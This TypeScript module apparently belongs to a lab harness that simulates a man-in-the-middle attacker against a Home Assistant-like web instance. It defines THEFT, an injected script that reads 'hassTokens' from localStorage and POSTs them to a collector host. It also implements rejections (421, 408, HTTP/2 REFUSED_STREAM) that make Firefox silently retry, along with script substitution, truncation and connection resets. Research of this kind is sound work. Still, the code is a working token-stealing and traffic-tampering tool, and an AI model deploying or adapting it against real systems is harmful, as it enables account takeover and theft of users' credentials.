// How an attacker answers a request that was read: as the instance does, with a rejection that makes Firefox retry it, or
// by ending the connection.
import type { IncomingMessage, ServerResponse } from "node:http";
import { constants, type Http2ServerResponse } from "node:http2";
import type { Socket } from "node:net";
import { instancePage } from "./instance-pages";
import { COLLECTOR } from "./lab";

/** The script that the attacker adds to the instance's pages and scripts: it sends the tokens to the attackers' host. */
export const THEFT = `(() => {
  const tokens = self.localStorage?.hassTokens;
  if (tokens === undefined) return;
  void fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: tokens }).catch(() => undefined);
})();`;

/** The connection is closed, also after an interim response, or reset; or the answer isn't HTTP, or not even TLS. */
export const ENDINGS = ["close", "continue", "reset", "no-http", "no-tls"] as const;
export type Ending = (typeof ENDINGS)[number];

/**
 * Ways to make Firefox retry a request silently over another connection: 421, 408 after a second, HTTP/2's
 * `HTTP_1_1_REQUIRED`. Over HTTP/2 also 408 at once and `REFUSED_STREAM`. `leaves` ends the whole session afterward.
 */
export type Rejection =
  "misdirected" | "timed-out" | "http-1.1-only" | "http-1.1-only, leaves" | "timed-out, leaves" | "refused, leaves";
export type Answer = "answer" | Rejection | Ending;

/** The attacker's changes to the answers. */
export interface Additions {
  /** Headers that the attacker adds to each answer. */
  readonly headers?: Readonly<Record<string, string>>;
  /** Scripts that the attacker answers with instead of the instance's files, by path. */
  readonly scripts?: Readonly<Record<string, string>>;
  /** Files that the attacker cuts off early: the length that the answer's header gives, by path. */
  readonly cutAt?: Readonly<Record<string, number>>;
}

/** The connections that the attacker has taken, below TLS, by the browser's port. */
type Taken = ReadonlyMap<number | undefined, Socket>;

const SCRIPT = { "Content-Type": "text/javascript" };

/** Over HTTP/1.1, this only ends the connection. */
const closeStream = (response: ServerResponse, code: number): void => {
  if (response.req.httpVersionMajor === 2) (response as unknown as Http2ServerResponse).stream.close(code);
  else response.destroy();
};

/** Ends an HTTP/2 session after its last frame has left. */
function leave(response: ServerResponse): void {
  const { session } = (response as unknown as Http2ServerResponse).stream;
  setTimeout(() => {
    if (session === undefined || session.destroyed) return;
    session.goaway();
    session.destroy();
  }, 5);
}

export function respond(
  request: IncomingMessage,
  response: ServerResponse,
  answer: Answer,
  additions: Additions,
  taken: Taken,
): void {
  const isHttp2 = request.httpVersionMajor === 2;
  if (answer === "misdirected") response.writeHead(421).end();
  else if (answer === "timed-out" || answer === "timed-out, leaves") response.writeHead(408).end();
  else if (answer === "http-1.1-only" || answer === "http-1.1-only, leaves")
    closeStream(response, constants.NGHTTP2_HTTP_1_1_REQUIRED);
  else if (answer === "refused, leaves") closeStream(response, constants.NGHTTP2_REFUSED_STREAM);
  else if (answer === "answer") answerInPlace(request, response, additions);
  else end(request.socket, answer, taken);
  if (isHttp2 && answer.endsWith("leaves")) leave(response);
}

/** Answers as the instance does, with the attacker's additions. */
function answerInPlace(
  request: IncomingMessage,
  response: ServerResponse,
  { headers = {}, scripts = {}, cutAt = {} }: Additions,
): void {
  for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
  const path = (request.url ?? "").replace(/\?.*/u, "");
  const script = scripts[path];
  const length = cutAt[path];
  if (script === undefined) instancePage(request, response, THEFT);
  else if (length !== undefined)
    response.writeHead(200, { ...SCRIPT, "Content-Length": length }).write(script, () => request.socket.end());
  else response.writeHead(200, SCRIPT).end(script);
}

export function end(socket: Socket, how: Ending, taken: Taken): void {
  const below = taken.get(socket.remotePort);
  if (how === "close") socket.destroy();
  else if (how === "continue") socket.end("HTTP/1.1 100 Continue\r\n\r\n");
  else if (how === "reset") below?.resetAndDestroy();
  else if (how === "no-http") socket.end("\u0000\u0001 nothing of the kind\r\n\r\n");
  else below?.write("nothing of the kind");
}
